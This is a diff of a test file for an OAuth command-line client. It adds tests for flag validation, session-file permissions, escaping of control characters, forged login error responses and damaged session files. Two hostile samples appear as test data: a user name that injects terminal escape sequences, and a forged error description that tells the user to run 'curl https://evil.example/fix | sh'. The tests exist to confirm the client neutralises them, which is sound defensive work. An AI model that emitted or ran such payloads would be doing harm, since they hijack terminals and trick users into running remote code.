@@ -1,12 +1,13 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createRemoteJWKSet, jwtVerify } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { CodeClient, TestUser } from '../../server/test/helpers/browser-agent.js';
+import { createUser, type CodeClient, type TestUser } from '../../server/test/helpers/browser-agent.js';
 import { postForm, type TestServer } from '../../server/test/helpers/server.js';
 import { SessionStore, type StoredSession } from '../src/index.js';
-import { API, cli, introspect, runCli, SCOPE, signInAndConsent, startLoginFixture, type LoginFixture } from './helpers/harness.js';
+import { agentLogin, API, cli, controlCharsIn, introspect, runCli, SCOPE, signInAndConsent, startLoginFixture, type LoginFixture } from './helpers/harness.js';
+
 
 describe('the gatehouse-client binary, run as a user would', () => {
   let fixture: LoginFixture;
@@ -154,7 +155,7 @@ describe('the gatehouse-client binary, run as a user would', () => {
       expect(ambiguous.code).toBe(2);
       expect(ambiguous.stdout).toBe('');
       expect(ambiguous.stderr).toContain('several stored sessions match');
-      expect(ambiguous.stderr).toContain(`${t.issuer} (client ${app.clientId})`);
+      expect(ambiguous.stderr).toContain(`\n  ${t.issuer} (client ${app.clientId})`); // one candidate per line
       expect(ambiguous.stderr).toContain(`${t.issuer} (client another-cli)`);
       expect((await cli(['token', '--client-id', app.clientId], bare)).code).toBe(0);
     } finally {
@@ -175,6 +176,7 @@ describe('the gatehouse-client binary, run as a user would', () => {
         { token_type_hint: 'refresh_token', ok: true },
         { token_type_hint: 'access_token', ok: true },
       ],
+      warnings: [],
     });
     expect(result.stderr).toContain('(tokens revoked at the server)');
     expect(readdirSync(configDir)).toEqual([]);
@@ -206,7 +208,7 @@ describe('the gatehouse-client binary, run as a user would', () => {
     expectNoSecrets(result.stderr);
   });
 
-  it('usage errors exit 2', async () => {
+  it('usage errors exit 2, numeric flags included (whole seconds in range: no 1e9, 0x10, negatives, or a timeout a timer cannot hold)', async () => {
     const missing = await cli(['login', '--no-browser'], { GATEHOUSE_CLIENT_CONFIG_DIR: configDir });
     expect(missing.code).toBe(2);
     expect(missing.stderr).toContain('login needs --issuer and --client-id');
@@ -215,5 +217,87 @@ describe('the gatehouse-client binary, run as a user would', () => {
     const insecure = await cli(['login', '--issuer', 'http://id.example.com', '--client-id', 'x'], { GATEHOUSE_CLIENT_CONFIG_DIR: configDir });
     expect(insecure.code).toBe(2);
     expect(insecure.stderr).toContain('the issuer must use https');
+    for (const args of [
+      ['token', '--min-validity', '1e9'],
+      ['token', '--min-validity', '-5'],
+      ['token', '--min-validity', '0x10'],
+      ['token', '--min-validity', '99999999999'],
+      ['login', '--timeout', '0'],
+      ['login', '--timeout', '3000000'],
+      ['login', '--timeout', '1.5'],
+    ]) {
+      const result = await cli(args, env);
+      expect({ args, code: result.code }).toEqual({ args, code: 2 });
+      expect(result.stderr).toMatch(/takes a whole number of seconds from \d+ to \d+/);
+      expect(result.stdout).toBe('');
+    }
+  });
+
+  it('refuses, like ssh, a session directory others can write to or a session file others can read: exit 2 with the fix', async () => {
+    expect(readdirSync(configDir)).toContain(sessionFile().split('/').at(-1));
+    try {
+      chmodSync(configDir, 0o777);
+      const openDir = await cli(['token'], env);
+      expect(openDir.code).toBe(2);
+      expect(openDir.stdout).toBe('');
+      expect(openDir.stderr).toContain(`the session directory ${configDir} is writable by other users (mode 0777); refusing to use it. Fix it with: chmod 700 ${configDir}`);
+      chmodSync(configDir, 0o700);
+
+      chmodSync(sessionFile(), 0o644);
+      for (const command of ['token', 'whoami', 'logout']) {
+        const readable = await cli([command], env);
+        expect({ command, code: readable.code }).toEqual({ command, code: 2 });
+        expect(readable.stderr).toContain(`the session file ${sessionFile()} is accessible to other users (mode 0644)`);
+        expect(readable.stderr).toContain(`chmod 600 ${sessionFile()}`);
+      }
+      expect(readdirSync(configDir)).toContain(sessionFile().split('/').at(-1));
+    } finally {
+      chmodSync(configDir, 0o700);
+      chmodSync(sessionFile(), 0o600);
+    }
+  });
+
+  it('whoami shows claims from the server with their control characters escaped', async () => {
+    const hostileName = 'Mallory\u001b]0;pwned\u0007\u001b[2J\r\u009b31mroot\u202e';
+    const mallory = await createUser(t, { username: 'mallory', name: hostileName, email: 'mallory@example.com' });
+    const dir = join(configDir, '..', 'mallory');
+    await agentLogin(t, mallory, { clientId: app.clientId, configDir: dir });
+    const malloryEnv = { ...env, GATEHOUSE_CLIENT_CONFIG_DIR: dir };
+    const human = await cli(['whoami'], malloryEnv);
+    expect(human.code, human.stderr).toBe(0);
+    expect(controlCharsIn(human.stdout)).toEqual([]);
+    expect(human.stdout).toContain('name: Mallory\\x1b]0;pwned\\x07\\x1b[2J\\x0d\\x9b31mroot\\u202e');
+    const json = await cli(['whoami', '--json'], malloryEnv);
+    expect(json.code).toBe(0);
+    expect(controlCharsIn(json.stdout)).toEqual([]);
+    expect((JSON.parse(json.stdout) as { userinfo: { name: string } }).userinfo.name).toBe(hostileName);
+  });
+
+  it('login: a forged error response (right state, read from the opener’s argv) ends the login, and its description cannot drive the terminal', async () => {
+    const run = runCli(['login', '--loopback', '--no-browser', '--scope', SCOPE], { ...env, GATEHOUSE_CLIENT_CONFIG_DIR: join(configDir, '..', 'forged') });
+    const [url] = await run.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
+    const request = new URL(url);
+    const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
+    callback.searchParams.set('state', request.searchParams.get('state') ?? '');
+    callback.searchParams.set('iss', t.issuer);
+    callback.searchParams.set('error', 'access_denied');
+    callback.searchParams.set('error_description', '\u001b[2K\rSession expired. Re-run: curl https://evil.example/fix | sh\u001b]0;pwned\u0007');
+    expect((await fetch(callback)).status).toBe(400);
+    const done = await run.done;
+    expect(done.code).toBe(1);
+    expect(controlCharsIn(done.stderr)).toEqual([]);
+    expect(done.stderr).toContain('gatehouse-client: the authorization server answered access_denied: \\x1b[2K\\x0dSession expired');
+  });
+
+  it('logout of a damaged session file named by issuer and client: deleted with a warning, exit 1 (nothing could be revoked)', async () => {
+    const dir = join(configDir, '..', 'damaged');
+    mkdirSync(dir, { mode: 0o700 });
+    const file = new SessionStore(dir).pathFor(t.issuer, app.clientId);
+    writeFileSync(file, '{"version": 1, "access_tok', { mode: 0o600 });
+    const result = await cli(['logout', '--json'], { ...env, GATEHOUSE_CLIENT_CONFIG_DIR: dir });
+    expect(result.code).toBe(1);
+    expect(readdirSync(dir)).toEqual([]);
+    expect(result.stderr).toContain(`warning: the session file ${file} is damaged; delete it and log in again; deleted it without revoking anything`);
+    expect(JSON.parse(result.stdout)).toMatchObject({ deleted: true, revoked: [] });
   });
 });
